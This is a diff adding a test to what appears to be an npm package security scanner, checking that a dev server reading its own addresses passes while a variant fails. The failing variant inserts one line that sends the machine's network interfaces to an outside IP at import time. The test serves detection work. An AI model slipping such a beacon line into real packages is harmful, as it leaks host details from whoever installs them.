@@ -498,3 +498,30 @@ def test_a_call_named_in_a_comment_is_not_made(tmp_path: Path) -> None:
     made = "const os = require('os');\n" + made
     report = run_exam(npm_package(tmp_path, "ipmade", {"index.js": made}), ONLY_BEHAVIOUR)
     assert findings(report, "thr-system-recon") != []
+
+
+# storybook 10's dev server: its own addresses, read at module level, for the URL it prints
+_OWN_ADDRESSES = """\
+const os = require('os');
+const http = require('http');
+var ifaces = os.networkInterfaces(), getOwnAddresses = () => {
+  return Object.values(ifaces).flat().filter((i) => i.family === 'IPv4' && !i.internal);
+};
+function start(port) {
+  http.createServer((req, res) => res.end('ok')).listen(port);
+  return getOwnAddresses().map((i) => `http://${i.address}:${port}/`);
+}
+module.exports = { start };
+"""
+
+
+def test_the_machines_addresses_only_functions_read_are_a_declaration(tmp_path: Path) -> None:
+    package = npm_package(tmp_path, "devserver", {"index.js": _OWN_ADDRESSES})
+    assert blocking(run_exam(package, ONLY_BEHAVIOUR)) == set()
+    # read at module level and sent: import-time recon
+    sent = _OWN_ADDRESSES.replace(
+        "module.exports",
+        "http.get('http://203.0.113.9/?i=' + JSON.stringify(ifaces));\nmodule.exports",
+    )
+    report = run_exam(npm_package(tmp_path, "beacon", {"index.js": sent}), ONLY_BEHAVIOUR)
+    assert "thr-system-recon" in blocking(report)
